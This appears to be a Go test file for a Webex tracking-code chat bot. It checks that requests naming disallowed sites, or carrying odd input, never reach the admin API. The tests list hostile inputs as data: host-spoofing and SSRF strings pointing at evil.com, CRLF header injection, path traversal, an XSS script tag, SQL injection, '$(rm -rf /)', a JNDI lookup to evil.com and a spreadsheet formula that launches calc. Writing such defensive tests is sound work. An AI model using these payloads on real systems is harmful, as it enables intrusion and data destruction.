package handlers

import (
	"context"
	"fmt"
	"log/slog"
	"strings"
	"sync"
	"testing"

	"trackbot/bot"
	"trackbot/bot/ask"
	"trackbot/webex"
)

// recorder is an admin API of two sites that notes what it is asked.
type recorder struct {
	fixed

	mu    sync.Mutex
	calls []string
}

func (r *recorder) note(site string, words ...string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.calls = append(r.calls, site+" "+strings.Join(words, " "))
}

func (r *recorder) TrackingCode(ctx context.Context, site, id string) (webex.TrackingCode, error) {
	r.note(site, id)
	c, err := r.fixed.TrackingCode(ctx, site, id)
	c.SiteURL = site
	return c, err
}

func (r *recorder) TrackingCodes(_ context.Context, site string) ([]webex.TrackingCode, error) {
	r.note(site)
	list := append([]webex.TrackingCode(nil), r.fixed...)
	for i := range list {
		list[i].SiteURL = site
	}
	return list, nil
}

func (r *recorder) UserTrackingCodes(ctx context.Context, site, personID, email string) (webex.UserCodes, error) {
	r.note(site, personID, email)
	return r.fixed.UserTrackingCodes(ctx, site, personID, email)
}

// asking answers a text as `trackbot ask` does, on example (the default) and
// emea, and returns what it said and which calls that made.
func asking(t *testing.T, text string) (said string, calls []string) {
	t.Helper()
	admin := &recorder{fixed: few()}
	codes := Remember(admin, bot.Patience)
	sites := &bot.Sites{Allowed: []string{golden, "emea.example.webex.com"}, Default: golden}
	replies, _ := bot.Ask(t.Context(), bot.Options{
		Commands: All(Parts{Admin: codes, Sites: sites}), Grammar: english(), Names: codes.Names, Sites: sites, Logger: slog.New(slog.DiscardHandler),
	}, text)
	var all strings.Builder
	for _, r := range replies {
		all.WriteString(r.Markdown + "\n")
	}
	return all.String(), admin.calls
}

var english = sync.OnceValue(func() *ask.Grammar { return ask.New(ask.Languages()...) })

// TestNoCallForAnotherSite asks in 300 ways about sites that may not be asked.
func TestNoCallForAnotherSite(t *testing.T) {
	sites := []string{
		"exapmle", "amea", "apac", "nowhere", "evil.com", "secret.webex.com", "example.webex.com.evil.com", "emea.example.webex.com.cn", "example.webex.com:8443",
		"https://example.webex.com@evil.com/", "https://evil.com#example.webex.com", `https://evil.com\@example.webex.com`, "ftp://example.webex.com", "http://10.0.0.1/",
		"10.0.0.1", "2130706433", "[::1]", "ex\u0430mple.webex.com", "\u212Aelvin.webex.com", "xn--exmple-4nf.webex.com", "éxample.webex.com", "example\u3002webex\u3002com.evil",
		"user@example.webex.com.evil", "example-webex.com", "examples", "us.example.webex.com", "example.webex.co", "example.com", "emea.webex.com", "ex\u0430mple",
	}
	shapes := []string{
		"tracking code 1 on %s", "tracking code Department on %s", "codes on %s", "options of Department at %s", "export codes on %s as csv", "check codes on %s",
		"codes of bob@example.com on %s", "find Sales on %s", "compare Department on example and %s", "codes 1, 2 and Cost Center on %s",
	}
	n := 0
	for _, site := range sites {
		for _, shape := range shapes {
			n++
			text := fmt.Sprintf(shape, site)
			if said, calls := asking(t, text); len(calls) > 0 || strings.Contains(said, "Options") {
				t.Errorf("%q made the calls %q and said:\n%s", text, calls, said)
			}
		}
	}
	if n != 300 {
		t.Errorf("%d inputs, want 300", n)
	}
}

// TestWordsStayWords puts into 300 questions what might break out of one: calls
// go to the sites that may be asked alone, and no id is one that can't be.
func TestWordsStayWords(t *testing.T) {
	odd := []string{
		"1&siteUrl=secret.webex.com", "1/../../people", "1?siteUrl=secret.webex.com", "%2e%2e%2f", "1\r\nHost: evil.com", "1#x", "1%00", "../1", "1;siteUrl=x", `{"id":1}`,
		"<script>alert(1)</script>", "<@all>", "[x](https://evil.com)", "' OR 1=1 --", "$(rm -rf /)", "`id`", "{{.}}", "${jndi:ldap://evil.com}", "\u202e1", "1\u0000",
		"=cmd|' /C calc'!A0", "*_~", "\U000F0000", "\uFFFC", "-1", "1e9", "０１", "0x1", strings.Repeat("9", 70), "\xff\xfe",
	}
	shapes := []string{"tracking code %s", `tracking code "%s" on emea`, "options of %s", "export %s as json", "find %s", "what is %s", "compare %s on example and emea", "codes of %s", "codes containing %s", "%s"}
	for _, words := range odd {
		for _, shape := range shapes {
			text := fmt.Sprintf(shape, words)
			_, calls := asking(t, text)
			for _, call := range calls {
				site, id, _ := strings.Cut(call, " ")
				if site != golden && site != "emea.example.webex.com" || len(id) > 64 || strings.ContainsAny(id, "/?&#%;<>\r\n") {
					t.Errorf("%q made the call %q", text, call)
				}
			}
		}
	}
}

// TestNewCommandIsOneFileAndOneLine: a command with two slots is found by the
// line that says how it is asked, and gets what was named.
func TestNewCommandIsOneFileAndOneLine(t *testing.T) {
	var got bot.Request
	propose := bot.Command{Name: "propose", Summary: "proposes an option", Usage: "propose OPTION for CODE", Site: true, Run: func(_ context.Context, r bot.Request) (bot.Reply, error) {
		got = r
		return bot.Reply{}, nil
	}}
	admin := Remember(few(), bot.Patience)
	sites := &bot.Sites{Allowed: []string{golden, "emea.example.webex.com"}, Default: golden}
	bot.Ask(t.Context(), bot.Options{
		Commands: append(All(Parts{Admin: admin, Sites: sites}), propose), Grammar: ask.New(ask.English + "\npropose:\n\tpropose [option] {option} for {code}\n"),
		Names: admin.Names, Sites: sites, Logger: slog.New(slog.DiscardHandler),
	}, "please propose the option Legal for cost centre on emea")
	if q := got.Question; got.Site.Host != "emea.example.webex.com" || q.Option != "Legal" || q.Code == nil || q.Code.ID != "2" {
		t.Errorf("asked %+v on %s", got.Question, got.Site.Host)
	}
}

// TestNewLanguageIsOneFile adds greetings and codes in Italian.
func TestNewLanguageIsOneFile(t *testing.T) {
	const italian = "\n# Italian\nskip: i, il, lo, la, per favore\nlead: quali, sono, mostrami\non: su\ngreeting:\n\t(ciao|buongiorno|salve) [a tutti]\ncodes:\n\tcodici\n"
	admin := Remember(few(), bot.Patience)
	sites := &bot.Sites{Allowed: []string{golden}, Default: golden}
	for text, want := range map[string]string{"Buongiorno!": "Hello", "quali sono i codici?": "2 tracking codes"} {
		replies, _ := bot.Ask(t.Context(), bot.Options{
			Commands: All(Parts{Admin: admin, Sites: sites}), Grammar: ask.New(append(ask.Languages(), italian)...), Names: admin.Names, Sites: sites, Logger: slog.New(slog.DiscardHandler),
		}, text)
		if len(replies) != 1 || !strings.Contains(replies[0].Markdown, want) {
			t.Errorf("%q = %+v, want %q", text, replies, want)
		}
	}
}
